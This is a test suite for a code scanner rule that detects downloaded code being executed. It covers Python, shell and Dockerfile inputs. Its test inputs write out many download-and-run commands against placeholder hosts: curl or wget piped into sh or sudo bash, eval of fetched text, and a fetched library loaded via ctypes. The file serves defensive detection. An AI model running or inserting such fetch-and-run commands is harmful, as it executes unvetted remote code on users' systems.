import { saidBy } from "../../support/loader-code";

const python = (source: string) => saidBy("MA-LDR-007", source);
const shell = (source: string) => saidBy("MA-LDR-007", source, "shell");

describe("MA-LDR-007 downloaded-code-run", () => {
  test.each([
    ["exec(requests.get(u).text)", "exec runs requests.get(u).text, which requests.get downloads"],
    ["eval(requests.get(u).text)", "eval runs requests.get(u).text, which requests.get downloads"],
    [
      "exec(compile(requests.get(u).text, 'x', 'exec'))",
      "compile runs requests.get(u).text, which requests.get downloads",
    ],
    ["os.system(requests.get(u).text)", "os.system runs requests.get(u).text, which requests.get downloads"],
    [
      'os.system("curl https://a.example/i.sh | sh")',
      "what curl downloads from https://a.example/i.sh goes into sh, which runs it",
    ],
    [
      'subprocess.run("wget -qO- https://a.example/i | sudo bash -s -- -y", shell=True)',
      "what wget downloads from https://a.example/i goes into bash, which runs it",
    ],
    ['subprocess.run(["bash", "-c", f"curl {u} | python3 -"])', "what curl downloads goes into python3, which runs it"],
  ])("%s", (source, message) => {
    expect(python(`import requests, os, subprocess\n${source}`)).toContainEqual(`high 2: ${message}`);
  });

  test("a library that was downloaded", () => {
    const source = "import ctypes, wget\nctypes.CDLL(wget.download('https://a.example/l.so'))";
    expect(python(source)).toEqual([
      "high 2: ctypes.CDLL runs wget.download('https://a.example/l.so'), which wget.download downloads from https://a.example/l.so",
    ]);
  });

  test.each([
    ["curl -fsSL https://a.example/i | sh", "what curl downloads from https://a.example/i goes into sh, which runs it"],
    [
      "curl https://a.example/i \\\n  | sudo -E bash -",
      "what curl downloads from https://a.example/i goes into bash, which runs it",
    ],
    [
      "wget -O - https://a.example/i | tee log | /bin/bash",
      "what wget downloads from https://a.example/i goes into bash, which runs it",
    ],
    [
      "if true; then (curl https://a.example/i) | sh; fi",
      "what curl downloads from https://a.example/i goes into sh, which runs it",
    ],
    ["{ curl https://a.example/i; } | sh", "what curl downloads from https://a.example/i goes into sh, which runs it"],
    ['bash -c "$(curl -fsSL https://a.example/i)"', "bash runs what is downloaded from https://a.example/i"],
    ["bash <(curl -s https://a.example/i)", "bash runs what is downloaded from https://a.example/i"],
    ["source <(wget -qO- https://a.example/i)", "source runs what is downloaded from https://a.example/i"],
    ["eval `curl https://a.example/i`", "eval runs what is downloaded from https://a.example/i"],
    [
      'bash -c "curl https://a.example/i | sh"',
      "what curl downloads from https://a.example/i goes into sh, which runs it",
    ],
    [
      "bash <<'E'\ncurl https://a.example/i | sh\nE\n",
      "what curl downloads from https://a.example/i goes into sh, which runs it",
    ],
  ])("shell: %s", (source, message) => {
    expect(shell(source)).toEqual([`high 1: ${message}`]);
  });

  test("a script that was downloaded before is medium: there may be a check between", () => {
    expect(shell("curl -o i.sh https://a.example/i\nchmod +x i.sh\n./i.sh -y")).toEqual([
      "medium 3: ./i.sh is run, which curl downloads from https://a.example/i, unchecked",
    ]);
    expect(shell("wget https://a.example/i.sh && bash i.sh")).toHaveLength(1);
  });

  test("Dockerfiles: the lines are those of the file", () => {
    const docker =
      'FROM python:3.12\n# curl a | sh\nRUN apt-get update \\\n # why\n && curl https://a.example/i | sh\nRUN ["sh", "-c", "curl https://b.example/i | sh"]\nLABEL x="curl a | sh"\n';
    expect(saidBy("MA-LDR-007", docker, "docker")).toEqual([
      "high 5: what curl downloads from https://a.example/i goes into sh, which runs it",
      "high 6: what curl downloads from https://b.example/i goes into sh, which runs it",
    ]);
  });

  test.each([
    "curl https://a.example/d.json | python -m json.tool",
    "curl https://a.example/d.json | python parse.py",
    "curl https://a.example/a.tgz | tar xz",
    'echo "curl https://a.example/i | sh"',
    "# curl https://a.example/i | sh",
    "cat <<E\ncurl https://a.example/i | sh\nE\n",
    "VERSION=$(curl https://a.example/version)",
    'python run.py --version "$(curl https://a.example/version)"',
    "cat i.sh | sh",
  ])("silent: %s", (source) => {
    expect(shell(source)).toEqual([]);
  });

  test.each([
    "exec(open('a.py').read())",
    "model.eval()",
    "eval('1 + 1')",
    "subprocess.run(['ls'])",
    "os.system('curl -O https://a.example/x')",
  ])("silent: %s", (source) => {
    expect(python(`import os, subprocess, requests\n${source}`)).toEqual([]);
  });
});
